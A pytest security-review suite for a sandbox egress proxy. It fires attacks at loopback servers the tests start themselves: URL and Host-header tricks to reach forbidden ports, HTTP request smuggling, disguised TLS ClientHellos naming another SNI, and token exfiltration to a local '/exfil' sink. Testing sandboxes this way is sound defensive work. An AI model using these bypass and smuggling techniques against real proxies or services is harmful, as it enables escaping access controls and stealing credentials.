"""Attacks on the egress proxy from inside the jail (security review).

Every destination is a server this file starts on 127.0.0.1 (or another loopback address);
evidence is on the host: listeners that must get no connection, tokens that must not appear in
what an origin received, counts. A `Breach` assertion means the attack worked. Five attacks of
the first review worked and were fixed (the value sent under another Host inside a terminated
tunnel, a gzip echo carrying the value into the jail, the value over plain HTTP, a placeholder in
a plain-HTTP body, a refused ClientHello recorded as allowed); their tests stay here.
"""
import gzip
import http.server
import json
import os
import socket
import ssl
import threading
import time

import pytest

import stockade
from test_egress import (  # noqa: F401  (fixtures re-exported)
    PY,
    EchoOrigin,
    Listener,
    Origin,
    flows,
    hosts_file,
    make_ca,
    origin,
    policy,
    supervisor_violations,
)


class Breach(AssertionError):
    """The attack worked (what an xfail here expects)."""


def breach_if(cond, msg):
    if cond:
        raise Breach(msg)


SECRET = '[secrets]\nAPI_TOKEN = { from = "env:HOST_API_TOKEN", hosts = ["api.test"] }\n'


def secret_setup(tmp_path, monkeypatch, names=("api.test", "other.test")):
    token = "sk-test-" + os.urandom(12).hex()
    ca_pem, ctx = make_ca(tmp_path, list(names))
    (tmp_path / "ca.pem").write_bytes(ca_pem)
    monkeypatch.setenv("STOCKADE_EGRESS_CA_FILE", str(tmp_path / "ca.pem"))
    monkeypatch.setenv("HOST_API_TOKEN", token)
    return token, ca_pem, ctx


def lower(h):
    return {k.lower(): v for k, v in h.items()}


class BodyOrigin(Origin):
    """An origin that also takes POST and keeps the bodies."""

    def __init__(self, tls_context=None):
        super().__init__(tls_context)
        origin = self
        self.bodies = []

        def do_POST(h):
            n = int(h.headers.get("Content-Length") or 0)
            body = h.rfile.read(n)
            origin.requests.append((h.path, dict(h.headers)))
            origin.bodies.append(body)
            h.send_response(200)
            h.send_header("Content-Length", "2")
            h.end_headers()
            h.wfile.write(b"ok")

        self.server.RequestHandlerClass.do_POST = do_POST


class GzipEchoOrigin(Origin):
    """Echoes the Authorization it got, gzipped when the client accepts gzip (as most servers
    that compress do)."""

    def __init__(self, tls_context=None):
        super().__init__(tls_context)
        origin = self

        def do_GET(h):
            origin.requests.append((h.path, dict(h.headers)))
            body = f"you sent: {h.headers.get('Authorization', '')}".encode()
            gz = "gzip" in h.headers.get("Accept-Encoding", "")
            if gz:
                body = gzip.compress(body)
            h.send_response(200)
            if gz:
                h.send_header("Content-Encoding", "gzip")
            h.send_header("Content-Length", str(len(body)))
            h.end_headers()
            h.wfile.write(body)

        self.server.RequestHandlerClass.do_GET = do_GET


class ByteSink:
    """A TCP listener that reads everything each connection sends and counts the bytes."""

    def __init__(self, host="127.0.0.1"):
        self.sock = socket.socket()
        self.sock.bind((host, 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.bytes = 0
        self.connections = 0
        self.sock.settimeout(0.2)
        self._stop = False
        threading.Thread(target=self._loop, daemon=True).start()

    def _loop(self):
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            threading.Thread(target=self._drain, args=(conn,), daemon=True).start()

    def _drain(self, conn):
        conn.settimeout(10)
        try:
            while True:
                b = conn.recv(65536)
                if not b:
                    break
                self.bytes += len(b)
        except OSError:
            pass
        conn.close()

    def close(self):
        self._stop = True
        self.sock.close()


RAW_HELPER = """
import socket
def raw(data, wait=3):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=wait)
    s.sendall(data)
    out = b""
    try:
        while True:
            b = s.recv(65536)
            if not b:
                break
            out += b
    except OSError:
        pass
    s.close()
    return out
def status(out):
    return out.split(b"\\r\\n")[0].decode("latin-1") or "closed"
"""


# ----- (a)/(e) host parsing: authority spellings that try to reach another port or address -----


def test_authority_tricks_reach_no_other_port_or_address(origin):
    other = Listener()
    # The same port as the allowed origin, on another loopback address.
    same_port = socket.socket()
    try:
        same_port.bind(("127.0.0.2", origin.port))
        same_port.listen(8)
        same_port.settimeout(0.2)
    except OSError:
        same_port.close()
        same_port = None
    A, O = origin.port, other.port
    tricks = [
        f"GET http://127.0.0.1:{A}@127.0.0.1:{O}/u HTTP/1.1\r\nHost: x",
        f"GET http://127.0.0.1:{O}#@127.0.0.1:{A}/ HTTP/1.1\r\nHost: x",
        f"GET http://127.0.0.1%3A{O}/ HTTP/1.1\r\nHost: x",
        f"GET http://127.0.0.%31:{O}/ HTTP/1.1\r\nHost: x",
        f"GET http://localhost:{O}/ HTTP/1.1\r\nHost: x",
        f"GET http://0.0.0.0:{O}/ HTTP/1.1\r\nHost: x",
        f"GET http://[::1]:{O}/ HTTP/1.1\r\nHost: x",
        f"GET http://[0:0:0:0:0:ffff:7f00:1]:{O}/ HTTP/1.1\r\nHost: x",
        f"GET http://[::127.0.0.1]:{O}/ HTTP/1.1\r\nHost: x",
        f"GET http://127.0.0.1:{O}:{A}/ HTTP/1.1\r\nHost: x",
        f"GET ftp://127.0.0.1:{O}/ HTTP/1.1\r\nHost: x",
        f"GET ws://127.0.0.1:{O}/ HTTP/1.1\r\nHost: x",
        f"GET //127.0.0.1:{O}/ HTTP/1.1\r\nHost: 127.0.0.1:{O}",
        f"GET / HTTP/1.1\r\nHost: 127.0.0.1:{O}",
        f"GET http://127.0.0.1:{O}/ HTTP/1.0\r\nHost: x",
        f"GET HTTP://127.0.0.1:{O}/ HTTP/1.1\r\nHost: x",
        f"GET http://127.0.0.1:{O + 65536}/ HTTP/1.1\r\nHost: x",
        f"GET http://127.0.0.1:0{O}/ HTTP/1.1\r\nHost: x",
        f"GET http://１２７.０.０.１:{O}/ HTTP/1.1\r\nHost: x",
        f"GET http://127.0.0.1\t:{O}/ HTTP/1.1\r\nHost: x",
        f"CONNECT 127.0.0.1:{A}@127.0.0.1:{O} HTTP/1.1\r\nHost: x",
        f"CONNECT 127.0.0.1:{O} HTTP/1.1\r\nHost: 127.0.0.1:{A}",
        f"CONNECT [::ffff:127.0.0.1]:{O} HTTP/1.1\r\nHost: x",
        f"CONNECT http://127.0.0.1:{O}/ HTTP/1.1\r\nHost: x",
        f"CONNECT 127.0.0.1:{O}:{A} HTTP/1.1\r\nHost: x",
        f"CONNECT 2130706433:{O} HTTP/1.1\r\nHost: x",
        # Another address, the allowed port.
        f"GET http://127.0.0.2:{A}/ HTTP/1.1\r\nHost: x",
        f"CONNECT 127.0.0.2:{A} HTTP/1.1\r\nHost: x",
        f"GET http://[::ffff:127.0.0.2]:{A}/ HTTP/1.1\r\nHost: x",
        f"GET http://2130706434:{A}/ HTTP/1.1\r\nHost: x",
        f"GET http://127.0.0.1:{A}@127.0.0.2:{A}/ HTTP/1.1\r\nHost: x",
        # Header folding that would smuggle a Host: either refused or sent to the allowed origin.
        f"GET http://127.0.0.1:{A}/fold HTTP/1.1\r\nX-A: a\r\n Host: 127.0.0.1:{O}",
        # A Host naming another port: overwritten, the request goes where the URI says.
        f"GET http://127.0.0.1:{A}/host-header HTTP/1.1\r\nHost: 127.0.0.1:{O}",
    ]
    code = RAW_HELPER + f"""
import json
tricks = {json.dumps(tricks)}
print(json.dumps([status(raw((t + "\\r\\nConnection: close\\r\\n\\r\\n").encode("utf-8"))) for t in tricks]))
"""
    try:
        r = stockade.run(code, policy=policy(f"127.0.0.1:{A}"))
        assert r.ok, r
        got = json.loads(r.stdout)
        assert len(got) == len(tricks)
        time.sleep(0.3)
        assert other.hits == 0, list(zip(tricks, got))
        if same_port is not None:
            try:
                c, _ = same_port.accept()
                c.close()
                raise AssertionError("127.0.0.2 got a connection")
            except socket.timeout:
                pass
        # Everything but the last two (which name the allowed origin) is refused.
        for t, s in zip(tricks[:-2], got[:-2]):
            assert s.split(" ")[1:2] in (["400"], ["403"], ["431"]) or s == "closed", (t, s)
        # Control: the allowed origin got only requests for itself, with its own Host.
        for path, h in origin.requests:
            assert path in ("/fold", "/host-header"), origin.requests
            assert lower(h)["host"] == f"127.0.0.1:{A}", h
        assert got[-1].startswith("HTTP/1.1 200"), got
    finally:
        other.close()
        if same_port is not None:
            same_port.close()


def test_pipelined_and_smuggled_requests_are_each_decided(origin):
    other = Listener()
    A, O = origin.port, other.port
    code = RAW_HELPER + f"""
import json
out = []
# Two pipelined requests in one write: the second names a port the policy does not.
out.append(raw(b"GET http://127.0.0.1:{A}/p1 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"
               b"GET http://127.0.0.1:{O}/p2 HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n"))
# Content-Length and chunked together, a request hidden behind the chunked terminator.
out.append(raw(b"POST http://127.0.0.1:{A}/s1 HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 4\\r\\n"
               b"Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n"
               b"GET http://127.0.0.1:{O}/s2 HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n"))
# A GET with a body that is another request.
inner = b"GET http://127.0.0.1:{O}/s4 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"
out.append(raw(b"GET http://127.0.0.1:{A}/s3 HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: "
               + str(len(inner)).encode() + b"\\r\\n\\r\\n" + inner
               + b"GET http://127.0.0.1:{O}/s5 HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n"))
print(json.dumps([o.decode("latin-1") for o in out]))
"""
    try:
        r = stockade.run(code, policy=policy(f"127.0.0.1:{A}"))
        assert r.ok, r
        out = json.loads(r.stdout)
        time.sleep(0.3)
        assert other.hits == 0, out
        # Control: the allowed requests went through.
        assert "hello /p1" in out[0] and "403 Forbidden" in out[0], out[0]
        paths = [p for p, _ in origin.requests]
        assert "/p1" in paths and not any(p.startswith("http") for p in paths), paths
        denied = [f for f in flows(r, "denied") if f["port"] == O]
        assert denied, flows(r)
    finally:
        other.close()


# ----- (c) limits -----


def test_concurrent_requests_do_not_exceed_max_connections(origin):
    code = f"""
import threading, urllib.request, urllib.error
res = []
def go(i):
    try:
        res.append(urllib.request.urlopen("http://127.0.0.1:{origin.port}/c" + str(i), timeout=15).status)
    except urllib.error.HTTPError as e:
        res.append(e.code)
    except Exception as e:
        res.append(type(e).__name__)
ts = [threading.Thread(target=go, args=(i,)) for i in range(16)]
for t in ts: t.start()
for t in ts: t.join()
print(sorted(map(str, res)))
"""
    r = stockade.run(code, policy=policy(f"127.0.0.1:{origin.port}", extra="max-connections = 3\n"))
    assert r.ok, r
    assert r.stdout.count("'200'") == 3, r.stdout
    assert len(origin.requests) == 3 and origin.connections == 3
    # Connections past 4 x max-connections are closed unread (not flows), but all are counted.
    assert r.network["connections"] == 16 and 12 <= len(flows(r)) <= 16, r.network


def test_uploads_cannot_exceed_max_bytes():
    sink = ByteSink()
    code = RAW_HELPER + f"""
import socket
big = b"A" * 2_000_000
# A plaintext CONNECT tunnel, then 2 MB up.
s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
s.sendall(b"CONNECT 127.0.0.1:{sink.port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
print(s.recv(200).split(b"\\r\\n")[0].decode())
sent = 0
try:
    while sent < len(big):
        sent += s.send(big[sent:sent + 65536])
except OSError as e:
    print("cut", type(e).__name__)
print("tunnel sent", sent)
s.close()
# An absolute-URI POST with a 2 MB body (the run is already over its bytes: the proxy may close
# the connection while the body is still going out, which the code sees as a broken pipe).
try:
    out = raw(b"POST http://127.0.0.1:{sink.port}/up HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 2000000\\r\\n\\r\\n" + big, wait=5)
    print("post", status(out))
except OSError as e:
    print("post cut", type(e).__name__)
"""
    try:
        r = stockade.run(code, policy=policy(f"127.0.0.1:{sink.port}", extra='max-bytes = "100K"\n'))
        assert r.ok, r
        time.sleep(1)
        # Control: the tunnel opened (bytes did flow).
        assert "HTTP/1.1 200" in r.stdout and sink.bytes > 0, (r.stdout, sink.bytes)
        assert sink.bytes < 250_000, (sink.bytes, r.stdout)
        assert r.network["bytes"] < 400_000
        assert any(f["rule"] == "network.max-bytes" for f in flows(r)), flows(r)
    finally:
        sink.close()


# ----- (d) pools: a run may not leave network activity for the next -----


def test_a_forked_leftover_cannot_use_the_next_runs_proxy(origin):
    pol = policy(f"127.0.0.1:{origin.port}", extra="[guard]\nenabled = false\n")
    fork = f"""
import os, time, urllib.request
pid = os.fork()
if pid == 0:
    try:
        os.setsid()
    except OSError:
        pass
    time.sleep(DELAY)
    try:
        urllib.request.urlopen("http://127.0.0.1:{origin.port}/PATH", timeout=5).read()
    except Exception:
        pass
    os._exit(0)
WAIT
print("forked")
"""
    with stockade.Pool(size=1, policy=pol) as pool:
        # Control: a forked child that its run waits for reaches the origin.
        r = pool.run(fork.replace("DELAY", "0.1").replace("PATH", "waited").replace("WAIT", "os.waitpid(pid, 0)"))
        assert r.ok, r
        assert [p for p, _ in origin.requests] == ["/waited"], origin.requests
        # The attack: a child left behind, which connects while the next run is going.
        r = pool.run(fork.replace("DELAY", "1.5").replace("PATH", "late").replace("WAIT", ""))
        assert r.ok, r
        r2 = pool.run("import time\ntime.sleep(3)\nprint('ok')")
        assert r2.ok, r2
        assert flows(r2) == [], flows(r2)
    time.sleep(0.3)
    assert [p for p, _ in origin.requests] == ["/waited"], origin.requests


# ----- (e) SNI -----


def _sni_origin(ctx):
    tls = Origin(tls_context=ctx)
    tls.sni = []
    ctx.sni_callback = lambda sock, name, c: tls.sni.append(name)
    return tls


SNI_CLIENT = """
import socket, ssl, json
ctx = ssl.create_default_context(cafile="ca.pem")
def hello(sni):
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(inc, out, server_hostname=sni)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()
def fragment(h, size):
    # One handshake message over many TLS records of `size` bytes.
    body = h[5:]
    recs = b""
    for i in range(0, len(body), size):
        part = body[i:i + size]
        recs += h[:3] + len(part).to_bytes(2, "big") + part
    return recs
def attempt(connect_host, payload, pieces=1):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
    s.sendall(f"CONNECT {connect_host}:PORT HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
    head = s.recv(4096)
    if not head.startswith(b"HTTP/1.1 200"):
        return "refused " + head.split(b"\\r\\n")[0].decode()
    step = max(1, len(payload) // pieces)
    try:
        for i in range(0, len(payload), step):
            s.sendall(payload[i:i + step])
        back = s.recv(5)
        return "answered " + back[:1].hex() if back else "closed"
    except OSError as e:
        return "closed " + type(e).__name__
"""


def test_sni_tricks_do_not_reach_another_name(tmp_path, hosts_file):
    ca_pem, ctx = make_ca(tmp_path, ["api.test", "other.test"])
    tls = _sni_origin(ctx)
    try:
        code = SNI_CLIENT.replace("PORT", str(tls.port)) + """
alert = bytes.fromhex("1503010002015a")   # a warning alert first: the proxy checks only a 0x16 first byte
res = {
  "control": attempt("api.test", fragment(hello("api.test"), 40)),
  "plain": attempt("api.test", hello("other.test")),
  "fragmented": attempt("api.test", fragment(hello("other.test"), 40)),
  "dribbled": attempt("api.test", hello("other.test"), pieces=64),
  "upper": attempt("API.TEST", hello("other.test")),
  "alert_first": attempt("api.test", alert + hello("other.test")),
  "ccs_first": attempt("api.test", bytes.fromhex("140301000101") + hello("other.test")),
  "address_with_name": attempt("127.0.0.1", hello("other.test")),
}
print(json.dumps(res))
"""
        allow = policy(f"api.test:{tls.port}", f"127.0.0.1:{tls.port}")
        r = stockade.run(code, policy=allow, files={"ca.pem": ca_pem})
        assert r.ok, r
        res = json.loads(r.stdout)
        time.sleep(0.3)
        # Control: a fragmented hello naming the CONNECT host reaches the origin, which saw it.
        assert res["control"].startswith("answered 16"), res
        assert "api.test" in tls.sni, tls.sni
        assert "other.test" not in tls.sni, (tls.sni, res)
    finally:
        tls.close()


def test_a_refused_client_hello_is_recorded_as_refused(tmp_path, hosts_file):
    ca_pem, ctx = make_ca(tmp_path, ["api.test", "other.test"])
    tls = _sni_origin(ctx)
    try:
        code = SNI_CLIENT.replace("PORT", str(tls.port)) + """
print(attempt("api.test", hello("other.test")))
"""
        r = stockade.run(code, policy=policy(f"api.test:{tls.port}", f"127.0.0.1:{tls.port}"),
                         files={"ca.pem": ca_pem})
        assert r.ok, r
        sni = [f for f in flows(r) if f["rule"] == "network.sni"]
        # Control: the refusal happened and nothing reached the origin.
        assert sni and tls.handshakes == 0 and tls.sni == [], (flows(r), tls.sni)
        breach_if(sni[0]["decision"] != "denied", f"recorded as {sni[0]['decision']!r}: {sni[0]}")
        breach_if(not any(v["rule"] == "network.sni" for v in supervisor_violations(r)),
                  f"no violation: {r.violations}")
    finally:
        tls.close()


# ----- (b) secrets -----


def test_secret_goes_only_with_the_connect_host_as_host(tmp_path, hosts_file, monkeypatch):
    token, ca_pem, ctx = secret_setup(tmp_path, monkeypatch)
    api = EchoOrigin(ctx)
    try:
        code = f"""
import os, socket, ssl, urllib.request
tok = os.environ["API_TOKEN"]
def get(path, host):
    req = urllib.request.Request("https://api.test:{api.port}" + path,
                                 headers={{"Authorization": "Bearer " + tok, "Host": host}})
    try:
        return urllib.request.urlopen(req, timeout=10).status
    except Exception as e:
        return type(e).__name__
print(get("/ok", "api.test:{api.port}"))
print(get("/fronted", "other.test"))
# Absolute form inside the tunnel.
s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
s.sendall(b"CONNECT api.test:{api.port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
s.recv(4096)
t = ssl.create_default_context().wrap_socket(s, server_hostname="api.test")
t.sendall(("GET http://other.test/abs HTTP/1.1\\r\\nHost: other.test\\r\\nAuthorization: Bearer " + tok
           + "\\r\\nConnection: close\\r\\n\\r\\n").encode())
print(t.recv(100).split(b"\\r\\n")[0].decode())
"""
        pol = policy(f"api.test:{api.port}", f"127.0.0.1:{api.port}", extra=SECRET)
        r = stockade.run(code, policy=pol)
        assert r.ok, r
        # Control: the value reaches api.test with its own Host.
        ok = [lower(h) for p, h in api.requests if p == "/ok"]
        assert ok and ok[0]["authorization"] == f"Bearer {token}", api.requests
        fronted = [(p, lower(h).get("host")) for p, h in api.requests
                   if token in lower(h).get("authorization", "")
                   and lower(h).get("host") not in ("api.test", f"api.test:{api.port}")]
        breach_if(fronted, f"the value went out with another Host: {fronted}")
    finally:
        api.close()


def test_a_compressed_echo_does_not_bring_the_value_into_the_jail(tmp_path, hosts_file, monkeypatch):
    token, ca_pem, ctx = secret_setup(tmp_path, monkeypatch)
    api, sink = GzipEchoOrigin(ctx), EchoOrigin()
    try:
        code = f"""
import os, gzip, urllib.request
tok = os.environ["API_TOKEN"]
def get(path, extra):
    h = {{"Authorization": "Bearer " + tok}}
    h.update(extra)
    r = urllib.request.urlopen(urllib.request.Request("https://api.test:{api.port}" + path, headers=h), timeout=10)
    raw = r.read()
    return (gzip.decompress(raw) if r.headers.get("Content-Encoding") == "gzip" else raw).decode()
plain = get("/plain", {{}}).split("Bearer ")[1]
print("plain echo is the placeholder:", plain == tok)
got = get("/gz", {{"Accept-Encoding": "gzip"}}).split("Bearer ")[1]
print("gzip echo is the placeholder:", got == tok)
try:
    urllib.request.urlopen(urllib.request.Request("http://127.0.0.1:{sink.port}/exfil", headers={{"X-Leak": got}}),
                           timeout=10).read()
    print("sent")
except Exception as e:
    print("refused", e)
"""
        pol = policy(f"api.test:{api.port}", f"127.0.0.1:{api.port}", f"127.0.0.1:{sink.port}", extra=SECRET)
        r = stockade.run(code, policy=pol)
        assert r.ok, r
        # Control: the value reached api.test, and a plain echo came back as the placeholder.
        assert any(lower(h).get("authorization") == f"Bearer {token}" for _, h in api.requests)
        assert "plain echo is the placeholder: True" in r.stdout, r.stdout
        leaked = [h for _, h in sink.requests if token in json.dumps(h)]
        breach_if(leaked, f"the value reached a host the secret does not name: {leaked}")
        breach_if("gzip echo is the placeholder: False" in r.stdout, "the value entered the jail")
    finally:
        api.close()
        sink.close()


def test_the_value_never_goes_out_in_cleartext(tmp_path, hosts_file, monkeypatch):
    token, _, _ = secret_setup(tmp_path, monkeypatch)
    plain = EchoOrigin()
    try:
        code = f"""
import os, urllib.request
tok = os.environ["API_TOKEN"]
req = urllib.request.Request("http://api.test:{plain.port}/clear", headers={{"Authorization": "Bearer " + tok}})
try:
    print(urllib.request.urlopen(req, timeout=10).status)
except Exception as e:
    print("refused", e)
"""
        pol = policy(f"api.test:{plain.port}", f"127.0.0.1:{plain.port}", extra=SECRET)
        r = stockade.run(code, policy=pol)
        assert r.ok, r
        got = [lower(h).get("authorization") for _, h in plain.requests]
        breach_if(f"Bearer {token}" in got, "the value went over plain HTTP")
        # (A fix may refuse the request or send the placeholder; either way no value.)
    finally:
        plain.close()


def test_a_placeholder_in_a_plain_http_body_is_refused(tmp_path, hosts_file, monkeypatch):
    token, _, _ = secret_setup(tmp_path, monkeypatch)
    other = BodyOrigin()
    try:
        code = f"""
import os, urllib.request, urllib.error
tok = os.environ["API_TOKEN"]
print(tok)
def post(path, body, headers):
    try:
        return urllib.request.urlopen(urllib.request.Request("http://127.0.0.1:{other.port}" + path,
                                      data=body, headers=headers), timeout=10).status
    except urllib.error.HTTPError as e:
        return e.code
print(post("/header", b"x", {{"X-T": tok}}))
print(post("/body", ("token=" + tok).encode(), {{}}))
"""
        r = stockade.run(code, policy=policy(f"127.0.0.1:{other.port}", "api.test:443", extra=SECRET))
        assert r.ok, r
        lines = r.stdout.splitlines()
        placeholder = lines[0]
        assert placeholder.startswith("stockade-placeholder-")
        # Control: in a header it is refused.
        assert lines[1] == "403" and "/header" not in [p for p, _ in other.requests], lines
        breach_if(any(placeholder.encode() in b for b in other.bodies), "placeholder went out in a body")
    finally:
        other.close()


# ----- (f) the kernel layers alone: other stream protocols -----


def test_other_stream_protocols_do_not_leave_the_jail():
    target = Listener()
    code = f"""
import socket, errno, json
out = {{}}
for name, proto in [("tcp", 0), ("mptcp", 262), ("sctp", 132)]:
    for port in (3128, {target.port}):
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, proto)
        except OSError as e:
            out[f"{{name}}-{{port}}"] = "socket " + errno.errorcode.get(e.errno, str(e.errno))
            continue
        s.settimeout(3)
        try:
            s.connect(("127.0.0.1", port))
            out[f"{{name}}-{{port}}"] = "ok"
        except OSError as e:
            out[f"{{name}}-{{port}}"] = errno.errorcode.get(e.errno, str(e.errno))
        s.close()
print(json.dumps(out))
"""
    try:
        r = stockade.run(code, policy=policy("192.0.2.1:443", extra="[guard]\nenabled = false\n"))
        assert r.ok, r
        got = json.loads(r.stdout)
        # Control: plain TCP to the proxy connects.
        assert got["tcp-3128"] == "ok", got
        time.sleep(0.3)
        assert target.hits == 0, got
        assert got[f"tcp-{target.port}"] != "ok", got
    finally:
        target.close()
